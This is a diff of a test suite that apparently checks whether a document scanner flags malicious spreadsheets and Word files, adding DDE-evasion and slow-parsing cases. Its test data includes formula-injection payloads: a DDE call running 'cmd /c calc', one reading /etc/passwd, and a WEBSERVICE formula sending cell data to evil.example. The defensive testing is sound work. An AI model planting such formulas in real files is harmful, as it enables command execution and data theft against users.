@@ -290,6 +290,11 @@ describe('documents and workbooks', () => {
       ],
       ['a formula of DDE', 'a.xlsx', cell("cmd|'/c calc'!A0")],
       ['a function of DDE', 'a.xlsx', cell('1+DDE ("soffice","/etc/passwd","A1")')],
+      ['a function of DDE before another formula', 'a.xlsx', cell('DDE("a","b","c")<f/>')],
+      ['a function of DDE behind another formula', 'a.xlsx', cell('<f>1</f>+DDE("a","b","c")')],
+      ['a function of DDE behind an element and half a text', 'a.xlsx', cell('"<a/>DDE("a","b","c")')],
+      ['a function of DDE behind many blanks', 'a.xlsx', cell(`1+${' '.repeat(11_000)}DDE("a","b","c")`)],
+      ['a field of DDE before another', 'a.docx', part(said(`DDE x${said('')}`))],
       ['a function of DDE in a name', 'a.xlsx', cell('x</f><definedName>DDE("a","b","c")</definedName><f>1')],
       ['a function of DDE in a rule', 'a.xlsx', cell('1</f><formula1>dde("a","b","c")</formula1><f>1')],
       ['a function that asks a server', 'a.xlsx', cell('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)')],
@@ -461,6 +466,7 @@ describe('documents made to be slow', () => {
     ['as many attributes', 'a.docx', part(attributes(1000))],
     ['as many elements as a large table has', 'a.docx', cells(20)],
     ['a long source of a citation', 'a.docx', part(begin + said('ADDIN ').repeat(40_000) + end)],
+    ['a longer one in one piece', 'a.docx', part(said(`ADDIN {a | b} ${'x'.repeat(40_000)}`))],
     ['a drawing in a value', 'a.docx', part(`<a b="${'x'.repeat(4 * mb)}"/>`)],
   ]);
   areRefused([
